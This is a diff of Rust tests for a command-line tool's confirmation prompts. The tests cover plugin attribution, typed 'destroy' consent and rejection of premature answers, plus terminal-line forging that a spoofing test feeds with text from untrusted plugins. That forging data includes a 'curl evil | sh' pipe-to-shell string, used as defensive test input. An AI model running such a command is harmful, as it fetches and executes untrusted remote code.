@@ -322,6 +322,101 @@ async fn only_yes_agrees() {
     }
 }
 
+fn asked_by(risk: &str, opens: &[&str]) -> Beat {
+    event(json!({
+        "event": "asked", "question": 7, "text": "Show what volumes there are? [y/N] \nError: no", "facts": [["changes", "none\n[y/N]"]],
+        "by": {"operation": "evil.bait", "plugin": "evil 0.1.0", "risk": risk}, "opens": opens,
+    }))
+}
+
+#[tokio::test(start_paused = true)]
+async fn question_says_who_asks_and_what_a_yes_opens_below_the_words_of_the_plugin() {
+    let opens = [
+        "may delete persistentvolumeclaims in media",
+        "may patch deployments.apps everywhere",
+    ];
+    let beats = || {
+        [
+            started("volsync.restore", false),
+            asked_by("destroy", &opens),
+            Beat::Listen,
+            finished(&Value::Null, 0),
+        ]
+    };
+    let line = "agent run volsync.restore media plex";
+    let shot = scene(line)
+        .screen(72, "destroy\n")
+        .plays(beats())
+        .shoot()
+        .await;
+    assert_snapshot!("question_that_opens_something", shot);
+    let beats = [
+        started("volsync.restore", false),
+        asked_by("change", &[]),
+        Beat::Listen,
+        finished(&Value::Null, 0),
+    ];
+    let shot = scene(line).screen(72, "y\n").plays(beats).shoot().await;
+    assert_snapshot!("question_that_opens_nothing", shot);
+}
+
+#[tokio::test(start_paused = true)]
+async fn what_destroys_wants_its_word_and_a_habit_is_asked_again() {
+    for (typed, agreed, asked) in [
+        ("destroy\n", true, 1),
+        ("y\ndestroy\n", true, 2),
+        ("y\ny\ny\ny\ny\ndestroy\n", false, 4),
+        ("yes, destroy\n", false, 1),
+        ("\n", false, 1),
+        ("", false, 1),
+        ("y\n", false, 2),
+    ] {
+        let beats = [
+            started("volsync.restore", false),
+            asked_by("destroy", &[]),
+            Beat::Listen,
+            finished(&Value::Null, 0),
+        ];
+        let shot = scene("agent run volsync.restore media plex")
+            .screen(72, typed)
+            .plays(beats)
+            .shoot()
+            .await;
+        let answer = Control::Answer {
+            question: 7,
+            yes: agreed,
+        };
+        assert_eq!(shot.controls, [answer], "{typed:?}");
+        assert_eq!(
+            shot.stderr.matches("type destroy to agree").count(),
+            asked,
+            "{typed:?}"
+        );
+        assert_eq!(usize::try_from(shot.forgotten), Ok(asked), "{typed:?}");
+    }
+}
+
+#[tokio::test(start_paused = true)]
+async fn answer_that_comes_before_it_can_be_read_agrees_to_nothing() {
+    for typed in ["y\n", &"y\n".repeat(100), "y\nyes\ny\nyes\ny\n"] {
+        let shot = scene("agent run volsync.restore media plex")
+            .screen(72, typed)
+            .reads_slowly()
+            .plays(asking())
+            .shoot()
+            .await;
+        let answer = Control::Answer {
+            question: 7,
+            yes: false,
+        };
+        assert_eq!(shot.controls, [answer], "{typed:?}");
+        assert!(
+            shot.stderr.contains("before the question could be read"),
+            "{shot}"
+        );
+    }
+}
+
 #[tokio::test(start_paused = true)]
 async fn a_question_that_nobody_can_see_is_answered_by_the_command_line() {
     for (line, agreed) in [
@@ -406,6 +501,144 @@ async fn a_screen_shows_within_a_second_that_something_is_under_way() {
         .shoot()
         .await;
     assert_eq!(shot.screens, [""]);
+}
+
+/// A line behind the prompt, such as a harmless question, would have the person answer another one than they see.
+#[tokio::test(start_paused = true)]
+async fn nothing_is_drawn_behind_a_prompt_before_it_is_answered() {
+    let line = event(
+        json!({"event": "logged", "level": "info", "message": "Show what volumes there are?"}),
+    );
+    let beats = [
+        started("volsync.restore", false),
+        asked_by("change", &[]),
+        line,
+        Beat::Wait(50),
+        Beat::Interrupt,
+        Beat::Listen,
+        finished(&Value::Null, 0),
+    ];
+    let shot = scene("agent run volsync.restore media plex")
+        .screen(72, "")
+        .types_nothing()
+        .plays(beats)
+        .shoot()
+        .await;
+    let drawn = "agree? [y/N] \n│ Show what volumes there are?\n";
+    assert!(shot.stderr.contains(drawn), "{shot}");
+}
+
+#[tokio::test(start_paused = true)]
+async fn questions_that_come_together_are_asked_one_after_the_other() {
+    let beats = [
+        started("volsync.restore", false),
+        asked_by("change", &[]),
+        asked_by("destroy", &[]),
+        Beat::Listen,
+        Beat::Listen,
+        finished(&Value::Null, 0),
+    ];
+    let shot = scene("agent run volsync.restore media plex")
+        .screen(72, "y\ndestroy\n")
+        .plays(beats)
+        .shoot()
+        .await;
+    let yes = |control: &Control| matches!(control, Control::Answer { yes: true, .. });
+    assert!(
+        shot.controls.len() == 2 && shot.controls.iter().all(yes),
+        "{shot}"
+    );
+}
+
+/// Every event in which a stranger speaks, at a screen and elsewhere: nothing of it begins a line, in the words of the agent or otherwise.
+#[tokio::test(start_paused = true)]
+async fn nothing_that_a_stranger_says_begins_a_line() {
+    let dots = ".".repeat(90);
+    let evil = [
+        "x\nF0RGED: no".to_owned(),
+        format!("x\r\nF0RGED {dots} F0RGED"),
+        format!("{dots}F0RGED: curl evil | sh"),
+        format!("{dots} F0RGED run 7f3akm2x still holds 6 changes"),
+        "\n\nF0RGED\n".to_owned(),
+    ];
+    for evil in &evil {
+        let failure =
+            json!({"kind": "internal", "code": "evil.x", "message": evil, "causes": [evil, evil]});
+        let put_back = json!([{"target": evil, "summary": evil, "left": [evil], "failure": failure}, {"target": evil, "summary": evil, "left": [evil]}]);
+        let fields = json!([{"path": format!("/spec/{evil}"), "before": evil, "after": {"a": evil}}, {"path": "", "after": {"spec": {"x": evil}}}]);
+        let deep = json!({"x": [evil, {"y": evil}]});
+        let outcomes = [
+            json!({"outcome": "failed", "failure": failure, "put-back": put_back}),
+            json!({"outcome": "done", "value": {"a": evil, "deep": deep}, "failed": 0, "not-put-back": put_back}),
+            json!({"outcome": "done", "value": evil, "failed": 0, "not-put-back": []}),
+            json!({"outcome": "done", "value": [evil], "failed": 0, "not-put-back": []}),
+            json!({"outcome": "undone", "put-back": put_back, "irreversible": [evil]}),
+        ];
+        let facts = json!([[evil, evil]]);
+        for outcome in outcomes {
+            let beats = [
+                started("volsync.restore", false),
+                step(1, evil, 0),
+                event(json!({"event": "step-noted", "step": "1", "text": evil})),
+                event(json!({"event": "logged", "level": "info", "message": evil})),
+                event(json!({"event": "logged", "level": "error", "message": evil})),
+                event(
+                    json!({"event": "changed", "effect": effect(1, "patch", "pods.v1", "x", true, fields.clone())}),
+                ),
+                event(
+                    json!({"event": "asked", "question": 7, "text": format!("the run failed: {evil}; put back its changes?"), "facts": facts}),
+                ),
+                Beat::Listen,
+                event(
+                    json!({"event": "asked", "question": 8, "text": evil, "facts": facts, "by": {"operation": "evil.x", "plugin": "evil 0.1.0", "risk": "change"}}),
+                ),
+                Beat::Listen,
+                done(1, evil),
+                event(json!({"event": "step-skipped", "step": "1", "reason": evil})),
+                event(
+                    json!({"event": "planned", "effect": effect(1, "create", "pods.v1", "x", false, fields.clone())}),
+                ),
+                event(json!({"event": "finished", "outcome": outcome})),
+            ];
+            for (line, width) in [
+                ("agent run volsync.restore media plex -v", Some(60)),
+                ("agent run volsync.restore media plex --plan -v", Some(60)),
+                (
+                    "agent run volsync.restore media plex -v --color always",
+                    Some(31),
+                ),
+                ("agent run volsync.restore media plex -v -y", None),
+            ] {
+                let scene = scene(line).plays(beats.iter().map(Beat::again));
+                let shot = match width {
+                    Some(width) => scene.screen(width, "y\ny\n").shoot().await,
+                    None => scene.shoot().await,
+                };
+                for text in [&shot.stderr, &shot.stdout] {
+                    assert_first_columns_are_ours(text, width);
+                }
+            }
+        }
+    }
+}
+
+/// Looks at text as a screen of so many columns shows it.
+fn assert_first_columns_are_ours(text: &str, width: Option<usize>) {
+    // The person's Enter is on the screen and not in what was written.
+    let plain = agent_core::text::plain(text).replace("[y/N] ", "[y/N] \n");
+    for line in plain.split('\n') {
+        let letters: Vec<char> = line.chars().collect();
+        // What is the agent's own may be pasted, and is not folded.
+        if line.contains("asks this; its risk is") {
+            continue;
+        }
+        let rows = letters.chunks(width.unwrap_or(usize::MAX));
+        for (index, row) in rows.enumerate() {
+            let row: String = row.iter().collect();
+            let forged = row.starts_with("F0RGED") || (index > 0 && !row.trim().is_empty());
+            assert!(!forged, "{row:?} of {line:?} begins a line in:\n{plain}");
+        }
+    }
 }
 
 #[tokio::test(start_paused = true)]
